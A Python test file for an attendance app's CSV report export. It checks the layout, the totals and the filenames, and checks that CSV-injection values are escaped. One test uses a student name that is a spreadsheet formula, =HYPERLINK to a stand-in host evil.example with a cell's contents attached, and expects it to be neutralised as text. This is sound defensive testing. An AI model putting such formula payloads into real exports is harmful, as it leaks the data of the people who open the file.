"""GET /api/v1/terms/{id}/report?format=csv: every student a row, every lesson a column with the
student's current decision, then the totals; names and titles that start like a formula are
written as text (CSV injection), commas and quotes quoted."""

import csv
import io

import httpx

from tests.reports.stories import give_lesson, school_term, taught_term
from tests.support.clock import FakeClock
from tests.support.presence import ALL_VERIFIED
from trust_lesson.runtime import Runtime

TOTALS = ["Attended", "Partial", "Absent", "Pending review", "Decided lessons",
          "Attendance rate (%)"]  # fmt: skip


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_the_csv_has_a_row_per_student_and_a_column_per_lesson(
    client: httpx.AsyncClient, runtime: Runtime, clock: FakeClock
) -> None:
    school = await taught_term(client, runtime, clock)
    headers = await school.teacher_headers(client)

    answer = await client.get(school.api, params={"format": "csv", "limit": 1}, headers=headers)

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = 'attachment; filename="attendance-learn-python-term-0.csv"'
    assert answer.headers["content-disposition"] == disposition
    header, *rows = read_csv(answer.content)
    assert header == [
        "User id", "Username", "Name", "Variables (2026-03-02 12:00 UTC)",
        "Loops (2026-03-03 12:00 UTC)", "Functions (2026-03-11 12:00 UTC)", *TOTALS,
    ]  # fmt: skip
    ana, bruno, carla = (school.students[name] for name in ("ana", "bruno", "carla"))
    assert rows == [  # every student, whatever `limit` says: the file is the whole term
        [str(ana.id), "ana", ana.user.full_name, "ATTENDED", "ATTENDED", "", "2", "0", "0", "0",
         "2", "100.0"],
        [str(bruno.id), "bruno", bruno.user.full_name, "PARTIAL", "PENDING_REVIEW", "", "0", "1",
         "0", "1", "2", "0.0"],
        [str(carla.id), "carla", carla.user.full_name, "ATTENDED", "ABSENT", "", "1", "0", "1",
         "0", "2", "50.0"],
    ]  # fmt: skip


async def test_names_and_titles_that_start_a_formula_are_written_as_text(
    client: httpx.AsyncClient, runtime: Runtime, clock: FakeClock
) -> None:
    school = await school_term(client, runtime, ["ana", "bruno"], course='Ação: =1+1, "B"')
    names = {"ana": '=HYPERLINK("http://evil.example/?x="&A1, "Open")', "bruno": "@SUM(1+1)"}
    for name, typed in names.items():
        person = school.students[name]
        renamed = await client.patch(
            "/api/v1/users/me", json={"full_name": typed}, headers=person.headers
        )
        assert renamed.status_code == 200, renamed.text
    await give_lesson(client, runtime, clock, school, '-2+3, "quoted"', {"ana": ALL_VERIFIED})

    answer = await client.get(
        school.api, params={"format": "csv"}, headers=await school.teacher_headers(client)
    )

    header, ana, bruno = read_csv(answer.content)
    assert header[3] == '\'-2+3, "quoted" (2026-03-02 12:00 UTC)'
    assert (ana[2], ana[3]) == ("'" + names["ana"], "ATTENDED")
    assert (bruno[2], bruno[3]) == ("'@SUM(1+1)", "ABSENT")
    assert b'"\'=HYPERLINK(""http://evil.example/?x=""&A1, ""Open"")"' in answer.content
    disposition = 'attachment; filename="attendance-acao-1-1-b-term-0.csv"'
    assert answer.headers["content-disposition"] == disposition


async def test_an_empty_term_is_a_header_alone(
    client: httpx.AsyncClient, runtime: Runtime, clock: FakeClock
) -> None:
    school = await school_term(client, runtime, [])

    answer = await client.get(school.api, params={"format": "csv"}, headers=school.teacher.headers)

    assert read_csv(answer.content) == [["User id", "Username", "Name", *TOTALS]]
